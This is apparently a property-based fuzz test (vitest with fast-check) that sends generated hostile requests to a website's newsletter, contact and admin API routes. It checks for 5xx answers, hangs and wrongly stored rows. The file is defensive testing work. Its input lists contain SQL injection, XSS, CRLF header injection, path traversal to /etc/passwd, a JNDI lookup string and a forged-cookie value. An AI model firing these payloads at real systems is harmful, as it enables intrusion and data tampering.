import fc from 'fast-check';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { contactMessageSchema } from '../../src/lib/schemas/contactMessage.ts';
import { isHoneypotFilled, newsletterSubscriptionSchema } from '../../src/lib/schemas/newsletterSubscription.ts';
import { createUnsubscribeToken } from '../../src/server/newsletter/unsubscribeToken.ts';
import { usePublisher } from '../../src/server/publish/publisher.ts';
import {
  createAdminSessionCookie,
  defaultAdminEmail,
  forgedAdminSessionCookie,
  foreignOrigin,
  sameOrigin,
} from './adminSession.ts';
import { callFunction, settleBackgroundWork } from './callFunction.ts';
import { ghostShrimp } from './speciesFixtures.ts';
import { testDatabases } from './testDatabases.ts';
import { useVisitorWriteContext } from './visitorWriteContext.ts';

/**
 * Property-based fuzzing of every write and every id in a path: generated hostile requests (odd
 * methods, content types, bodies, headers, ids, tokens, with and without an admin session) against
 * the functions, called as Netlify and the local server call them, on the embedded database. None
 * may answer 5xx or take over 5 s, none may throw out of the function, and afterwards the database
 * holds exactly the rows the valid requests among them should have stored.
 */
const secret = 'fuzz-test-unsubscribe-secret-0123456789';
const runs = 1200;
const hangMs = 5000;

/** Percent-encodes any text, lone surrogates included (as U+FFFD), as a client must to send it in a URL. */
const encode = (text: string) => encodeURIComponent(text.toWellFormed());

const hostileTexts = [
  "' or 1=1 --",
  '"; drop table subscribers; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u202Eevil\u202C',
  '\u0000',
  '\r\nSet-Cookie: x=1',
  '../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '{{7*7}}',
  '${jndi:ldap://x.example/a}',
  '\ud800',
  '𝕏🌱',
  'a'.repeat(20_000),
  '',
  ' ',
];
const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ maxLength: 300 }),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.lorem({ maxCount: 5 }),
);
const emailLike = fc.oneof(
  fc.emailAddress(),
  fc.constantFrom(
    'ana@example.org',
    'ANA@EXAMPLE.ORG ',
    'a@-x.com',
    'ana\u202E@example.org',
    'x@y',
    '@',
    'ana@example..org',
  ),
  hostileText,
);
const anyValue = fc.oneof(
  hostileText,
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), hostileText, { maxKeys: 3 }),
);
const honeypot = fc.option(fc.oneof(fc.constant(''), fc.constant(' '), hostileText), { nil: undefined });

const subscriptionBody = fc.record({ email: emailLike, website: honeypot }, { requiredKeys: ['email'] });
const contactBody = fc.record(
  { name: hostileText, email: emailLike, subject: hostileText, message: hostileText, website: honeypot },
  { requiredKeys: ['name', 'email', 'subject', 'message'] },
);
/** A valid species with one field replaced, added or taken away. */
const speciesBody = fc
  .tuple(
    fc.constantFrom(...Object.keys(ghostShrimp), 'photos', 'photoAlts', 'updateNotes', 'id', '__proto__'),
    fc.option(anyValue, { nil: undefined }),
  )
  .map(([key, value]) => ({ ...ghostShrimp, [key]: value }));
const jsonBody = fc.oneof(
  { weight: 4, arbitrary: subscriptionBody },
  { weight: 4, arbitrary: contactBody },
  { weight: 4, arbitrary: speciesBody },
  { weight: 1, arbitrary: fc.record({ password: anyValue }) },
  { weight: 1, arbitrary: fc.record({ note: hostileText, photoUrl: hostileText }) },
  { weight: 1, arbitrary: anyValue },
  { weight: 1, arbitrary: fc.jsonValue() },
);

const idSegment = fc.oneof(
  fc.integer({ min: -3, max: 60 }).map(String),
  fc.constantFrom(
    '0',
    '00',
    '1e3',
    '0x10',
    '1.5',
    '-1',
    ' 1',
    '99999999999999999999',
    '2147483648',
    'NaN',
    '..',
    '%2e%2e',
    '%00',
    'abc',
    '1;drop',
    '1%20or%201=1',
    '',
  ),
  hostileText.map(encode),
);
const tokenValue = fc.oneof(
  fc.integer({ min: 1, max: 200 }).map((id) => createUnsubscribeToken(Buffer.from(secret), id)),
  fc.integer({ min: 1, max: 200 }).map((id) => `${id}.${'A'.repeat(22)}`),
  hostileText,
);

/** Where a request goes, and (for the visitor forms) a body of their own shape more often than not. */
/** `methods`: what the route takes, tried more often than the others. */
type Target = { path: string; methods: string[]; ownBody?: fc.Arbitrary<unknown> };
const publicWrite = fc.oneof(
  fc.constant<Target>({ path: '/api/newsletter/subscribe', methods: ['POST'], ownBody: subscriptionBody }),
  fc.constant<Target>({ path: '/api/contact', methods: ['POST'], ownBody: contactBody }),
  fc.constant<Target>({ path: '/api/auth/password', methods: ['POST'] }),
  tokenValue.map((token): Target => ({
    path: `/api/newsletter/unsubscribe?token=${encode(token)}`,
    methods: ['GET', 'POST'],
  })),
  tokenValue.map((token): Target => ({ path: `/newsletter/unsubscribe?token=${encode(token)}`, methods: ['POST'] })),
);
const adminWrite = fc
  .oneof(
    fc.constantFrom(
      '/api/species',
      '/api/upload',
      '/api/subscribers',
      '/api/subscribers.csv',
      '/api/admin/species',
      '/api/admin/publish',
    ),
    idSegment.map((id) => `/api/species/${id}`),
    idSegment.map((id) => `/api/species/${id}/photo`),
    idSegment.map((id) => `/api/species/${id}/update-note`),
  )
  .map((path): Target => {
    if (path === '/api/species') return { path, methods: ['POST'], ownBody: speciesBody };
    if (/^\/api\/species\/[^/]*$/.test(path)) return { path, methods: ['PATCH', 'DELETE'], ownBody: speciesBody };
    return { path, methods: /^\/api\/(species\/|upload)/.test(path) ? ['POST'] : ['GET'] };
  });
const idRead = fc
  .oneof(
    idSegment.map((id) => `/api/biomes/${id}`),
    idSegment.map((id) => `/api/species/${id}`),
    idSegment.map((id) => `/api/resources/type/${id}`),
    idSegment.map((id) => `/media/${id}`),
  )
  .map((path): Target => ({ path, methods: ['GET'] }));

/** Header values as HTTP lets them through (no CR, LF or NUL; Latin-1), hostile otherwise. */
const headerValue = fc.string({ maxLength: 200 }).map((value) => value.replace(/[^\x20-\x7e\x80-\xff\t]/g, ''));
const contentType = fc.option(
  fc.oneof(
    { weight: 6, arbitrary: fc.constant('application/json') },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        'application/json; charset=utf-8',
        'APPLICATION/JSON',
        'application/json;;;',
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'image/png',
        '',
      ),
    },
    { weight: 1, arbitrary: headerValue },
  ),
  { nil: undefined, freq: 10 },
);
const body = fc.option(
  fc.oneof(
    { weight: 8, arbitrary: jsonBody.map((value) => JSON.stringify(value) ?? '') },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 3000 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'List-Unsubscribe=One-Click',
        '{',
        '[]',
        'null',
        '{"email":"a@b.co",',
        '\u0000'.repeat(100),
      ),
    },
  ),
  { nil: undefined, freq: 10 },
);

const hostileRequest = fc
  .oneof({ weight: 4, arbitrary: publicWrite }, { weight: 4, arbitrary: adminWrite }, { weight: 2, arbitrary: idRead })
  .chain((target) =>
    fc.record({
      target: fc.constant({ path: target.path }),
      body: target.ownBody
        ? fc.oneof(
            { weight: 3, arbitrary: target.ownBody.map((value) => JSON.stringify(value)) },
            { weight: 1, arbitrary: body },
          )
        : body,
      // Mostly the methods the routes take, so that most requests get past routing to the checks.
      method: fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...target.methods) },
        { weight: 1, arbitrary: fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS') },
      ),
      contentType,
      origin: fc.option(
        fc.oneof(
          fc.constantFrom(sameOrigin, foreignOrigin, 'null', 'http://localhost:4321.attacker.example'),
          headerValue,
        ),
        { nil: undefined },
      ),
      session: fc.constantFrom('valid', 'valid', 'forged', 'hostile', 'none'),
      ip: fc.oneof(
        fc.constantFrom('203.0.113.1', '203.0.113.2', '2001:db8::1', '::ffff:198.51.100.7', ''),
        fc.ipV4(),
        fc.ipV6(),
      ),
      extraHeader: fc.option(
        fc.tuple(
          fc.constantFrom(
            'x-forwarded-for',
            'content-length',
            'if-none-match',
            'accept',
            'x-http-method-override',
            'transfer-encoding',
          ),
          headerValue,
        ),
        { nil: undefined },
      ),
    }),
  );
type HostileRequest = typeof hostileRequest extends fc.Arbitrary<infer T> ? T : never;

describe('hostile requests (fast-check)', () => {
  const database = testDatabases[0]!;
  const context = useVisitorWriteContext(database, 'fuzz', secret);
  let validSession = '';

  beforeAll(async () => {
    process.env.ADMIN_EMAILS = defaultAdminEmail;
    usePublisher({ request: async () => {}, state: async () => ({ state: 'live' }) });
    validSession = await createAdminSessionCookie(context.handle.db);
  });

  function requestInit(request: HostileRequest): RequestInit {
    const headers = new Headers();
    if (request.contentType !== undefined) headers.set('content-type', request.contentType);
    if (request.origin !== undefined) headers.set('origin', request.origin);
    const cookie = {
      valid: validSession,
      forged: forgedAdminSessionCookie(),
      hostile: "admin_session=' or 1=1 --; admin_session=x",
      none: undefined,
    }[request.session];
    if (cookie) headers.set('cookie', cookie);
    if (request.extraHeader) headers.set(request.extraHeader[0], request.extraHeader[1]);
    const hasBody = request.body !== undefined && request.method !== 'GET' && request.method !== 'HEAD';
    return { method: request.method, headers, ...(hasBody ? { body: request.body } : {}) };
  }

  /** The rows a request should have stored: a valid subscription or message, honeypot empty, answered 200. */
  function expectedRows(request: HostileRequest, status: number): { subscriber?: string; message?: boolean } {
    if (status !== 200 || request.method !== 'POST' || typeof request.body !== 'string') return {};
    let parsed: unknown;
    try {
      parsed = JSON.parse(request.body);
    } catch {
      return {};
    }
    if (request.target.path === '/api/newsletter/subscribe') {
      const subscription = newsletterSubscriptionSchema.safeParse(parsed);
      return subscription.success && !isHoneypotFilled(subscription.data.website)
        ? { subscriber: subscription.data.email }
        : {};
    }
    if (request.target.path === '/api/contact') {
      const message = contactMessageSchema.safeParse(parsed);
      return { message: message.success && !isHoneypotFilled(message.data.website) };
    }
    return {};
  }

  const countOf = async (table: 'species' | 'contactMessages') =>
    (
      await context.handle.db
        .selectFrom(table)
        .select(sql<number>`count(*)::int`.as('n'))
        .executeTakeFirstOrThrow()
    ).n;
  const subscriberEmails = async () =>
    new Set((await context.handle.db.selectFrom('subscribers').select('email').execute()).map((row) => row.email));

  it(
    `answers ${runs} generated hostile requests without a 5xx, a hang or a throw, and stores only what valid ones should`,
    { timeout: 120_000 },
    async () => {
      const emailsBefore = await subscriberEmails();
      const [speciesBefore, messagesBefore] = [await countOf('species'), await countOf('contactMessages')];
      const expectedEmails = new Set<string>();
      let expectedMessages = 0;
      let createdSpecies = 0;
      let deletedSpecies = 0;
      const byStatus = new Map<string, number>();
      let sent = 0;
      let slowest = 0;

      await fc.assert(
        fc.asyncProperty(hostileRequest, async (request) => {
          sent++;
          const started = performance.now();
          let timer: NodeJS.Timeout | undefined;
          const hang = new Promise<'hang'>((resolve) => (timer = setTimeout(() => resolve('hang'), hangMs)));
          const answer = await Promise.race([
            callFunction(request.target.path, requestInit(request), { ip: request.ip }).then(async (response) => {
              // The whole answer, body included, within the bound.
              const text = response ? await response.text() : '';
              return { status: response?.status, text };
            }),
            hang,
          ]).finally(() => clearTimeout(timer));
          slowest = Math.max(slowest, performance.now() - started);
          expect(answer, `${request.method} ${request.target.path} did not answer within ${hangMs} ms`).not.toBe(
            'hang',
          );
          const { status, text } = answer as { status: number | undefined; text: string };
          const label = status === undefined ? 'no function (404)' : String(status);
          byStatus.set(label, (byStatus.get(label) ?? 0) + 1);
          expect(status ?? 404, `${request.method} ${request.target.path}: ${text.slice(0, 200)}`).toBeLessThan(500);
          const expected = expectedRows(request, status ?? 404);
          if (expected.subscriber) expectedEmails.add(expected.subscriber);
          if (expected.message) expectedMessages++;
          if (status === 201 && request.target.path === '/api/species') createdSpecies++;
          // A signed-in admin deleting an existing species is allowed to; it stores nothing.
          if (
            status !== undefined &&
            status < 300 &&
            request.method === 'DELETE' &&
            request.target.path.startsWith('/api/species/')
          )
            deletedSpecies++;
        }),
        {
          numRuns: runs,
          seed: Number(process.env.FUZZ_SEED ?? 20261123),
          interruptAfterTimeLimit: 100_000,
          markInterruptAsFailure: true,
        },
      );
      await settleBackgroundWork();

      const emailsAfter = await subscriberEmails();
      const newEmails = [...emailsAfter].filter((email) => !emailsBefore.has(email)).sort();
      expect(newEmails).toEqual([...expectedEmails].filter((email) => !emailsBefore.has(email)).sort());
      expect(await countOf('contactMessages')).toBe(messagesBefore + expectedMessages);
      expect(await countOf('species')).toBe(speciesBefore + createdSpecies - deletedSpecies);
      expect(sent).toBeGreaterThanOrEqual(1000);
      const totals = [...byStatus]
        .sort(([a], [b]) => a.localeCompare(b))
        .map(([status, count]) => `${status}: ${count}`)
        .join(', ');
      console.log(
        `Fuzz: ${sent} hostile requests (seed ${process.env.FUZZ_SEED ?? 20261123}); answers ${totals}; ` +
          `slowest ${Math.round(slowest)} ms; stored ${newEmails.length} subscribers, ${expectedMessages} messages, ${createdSpecies} species ` +
          `(${deletedSpecies} deleted by the admin session), as expected.`,
      );
    },
  );
});
